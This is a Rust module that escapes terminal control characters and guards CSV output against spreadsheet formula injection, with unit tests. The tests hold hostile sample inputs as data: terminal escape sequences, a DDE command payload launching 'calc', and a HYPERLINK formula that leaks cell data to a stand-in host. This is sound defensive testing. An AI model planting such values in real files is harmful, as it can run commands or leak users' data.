//! Text of others, in places where some characters do more than stand there.

use std::borrow::Cow;

/// Characters that move a terminal's cursor, colour it, end its line, or turn the order of what is read and cannot be seen.
fn acts(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}')
}

/// A text as one line of a terminal: what would act on it is written as Rust escapes it.
pub fn line(text: &str) -> Cow<'_, str> {
    escaped(text, acts)
}

/// A text of several lines for a terminal: the ends of its lines and tabulators stay, all else that would act is escaped.
pub fn lines(text: &str) -> Cow<'_, str> {
    escaped(text, |c| acts(c) && !matches!(c, '\n' | '\t'))
}

fn escaped(text: &str, acts: impl Fn(char) -> bool) -> Cow<'_, str> {
    if !text.contains(&acts) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        if acts(c) { out.extend(c.escape_default()) } else { out.push(c) }
    }
    Cow::Owned(out)
}

/// Spreadsheets take a cell that begins so for a formula.
fn is_formula(text: &str) -> bool {
    text.starts_with(['=', '+', '-', '@', '\t', '\r']) && text.parse::<f64>().is_err()
}

/// A text as a cell of comma-separated values (RFC 4180): in quotes where it holds what would end it, and behind an apostrophe
/// where a spreadsheet would run it. Numbers stay numbers.
pub fn csv_cell(text: &str) -> String {
    let safe = if is_formula(text) { format!("'{text}") } else { text.to_owned() };
    if safe.contains([',', ';', '"', '\n', '\r', '\t', '#']) {
        format!("\"{}\"", safe.replace('"', "\"\""))
    } else {
        safe
    }
}

/// A text in a line of remarks, behind `#`: it stays on its line, and no part of it that a spreadsheet puts in a cell of its own
/// is a formula.
pub fn csv_remark(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for part in text.replace(['\n', '\r', '"'], " ").split_inclusive([',', ';', '\t']) {
        let rest = part.trim_start();
        out += &part[..part.len() - rest.len()];
        if is_formula(rest.trim_end_matches([',', ';', '\t'])) {
            out.push('\'');
        }
        out += rest;
    }
    out
}

/// Bytes, such as a sum over a file, in hexadecimal.
pub fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|byte| format!("{byte:02x}")).collect()
}

/// Names that a message has of a list that may be of any length.
const NAMED: usize = 20;

/// The first of some names, and how many follow: `a, b, c and 999,997 more`.
pub fn few<T: AsRef<str>>(names: &[T]) -> String {
    let shown = names.iter().take(NAMED).map(AsRef::as_ref).collect::<Vec<_>>().join(", ");
    match names.len().saturating_sub(NAMED) {
        0 => shown,
        more => format!("{shown} and {} more", Digits::Grouped.of(more)),
    }
}

/// The same of lines.
pub fn few_lines(lines: &[String]) -> String {
    let shown = lines[..lines.len().min(NAMED)].join("\n");
    match lines.len().saturating_sub(NAMED) {
        0 => shown,
        more => format!("{shown}\nand {} more", Digits::Grouped.of(more)),
    }
}

/// How the digits of a whole number are written.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Digits {
    /// `12345`, as programs read it.
    Plain,
    /// `12,345`.
    Grouped,
}

impl Digits {
    /// A number in words.
    pub fn of(self, number: usize) -> String {
        let digits = number.to_string();
        let mut out = String::with_capacity(digits.len() + digits.len() / 3);
        for (at, digit) in digits.chars().enumerate() {
            if self == Self::Grouped && at > 0 && (digits.len() - at).is_multiple_of(3) {
                out.push(',');
            }
            out.push(digit);
        }
        out
    }

    /// How many of something, in words: `1 image`, `2 images`, `3 classes`.
    pub fn count(self, number: usize, noun: &str) -> String {
        let ending = match (number, noun.ends_with('s')) {
            (1, _) => "",
            (_, true) => "es",
            (_, false) => "s",
        };
        format!("{} {noun}{ending}", self.of(number))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nothing_acts_on_a_terminal() {
        let hostile = "a\u{1b}]0;HAX\u{7}\u{1b}[31m\nb\tc\u{9b}2J\u{202e}\u{200f}\u{2028}";
        assert!(line(hostile).chars().all(|c| !acts(c)), "{}", line(hostile));
        assert!(lines(hostile).chars().all(|c| !acts(c) || matches!(c, '\n' | '\t')));
        assert_eq!(lines("a\nb\tc"), "a\nb\tc");
        assert_eq!(line("a\nb"), "a\\nb");
        assert!(matches!(line("monozyt, gr\u{fc}n, \u{7d30}\u{80de}"), Cow::Borrowed(_)));
    }

    #[test]
    fn long_lists_are_cut_and_short_ones_are_whole() {
        assert_eq!((few(&["a", "b"]), few::<&str>(&[])), ("a, b".to_owned(), String::new()));
        let many: Vec<String> = (0..1_000_010).map(|at| at.to_string()).collect();
        let told = few(&many);
        assert!(told.starts_with("0, 1, 2,") && told.ends_with("18, 19 and 999,990 more"), "{told}");
        assert!(few_lines(&many).ends_with("18\n19\nand 999,990 more"));
        assert_eq!(few_lines(&many[..2]), "0\n1");
    }

    #[test]
    fn no_cell_is_a_formula_and_numbers_stay_numbers() {
        for text in [
            "=1+1",
            "+x",
            "-x",
            "@SUM(1+1)",
            "\tx",
            "\r=1",
            "-1+cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://e/?\"&A1,\"x\")",
        ] {
            let cell = csv_cell(text);
            assert!(cell.trim_start_matches('"').starts_with('\''), "{cell}");
        }
        for (text, cell) in [
            ("monocyte", "monocyte"),
            ("-1.5", "-1.5"),
            ("+3e-4", "+3e-4"),
            ("a, \"b\"", "\"a, \"\"b\"\"\""),
            ("a;=1", "\"a;=1\""),
            ("=a,b", "\"'=a,b\""),
            ("x=1", "x=1"),
            ("", ""),
        ] {
            assert_eq!(csv_cell(text), cell);
        }
    }

    #[test]
    fn remarks_stay_remarks() {
        assert_eq!(csv_remark("a, b"), "a, b");
        assert_eq!(csv_remark("a,=1+1, @x;-2"), "a,'=1+1, '@x;-2");
        assert_eq!(csv_remark("a\n=1+1\r\"=2\""), "a =1+1  =2 ");
    }

    #[test]
    fn every_byte_has_two_digits() {
        assert_eq!(hex(&[0, 10, 255]), "000aff");
    }

    #[test]
    fn one_thing_is_no_plural() {
        let told = [0, 1, 2000].map(|count| Digits::Plain.count(count, "image"));
        assert_eq!(told, ["0 images", "1 image", "2000 images"]);
        let told = [1, 6, 1_234_567].map(|count| Digits::Grouped.count(count, "class"));
        assert_eq!(told, ["1 class", "6 classes", "1,234,567 classes"]);
        assert_eq!([7, 123, 1234].map(|number| Digits::Grouped.of(number)), ["7", "123", "1,234"]);
    }
}
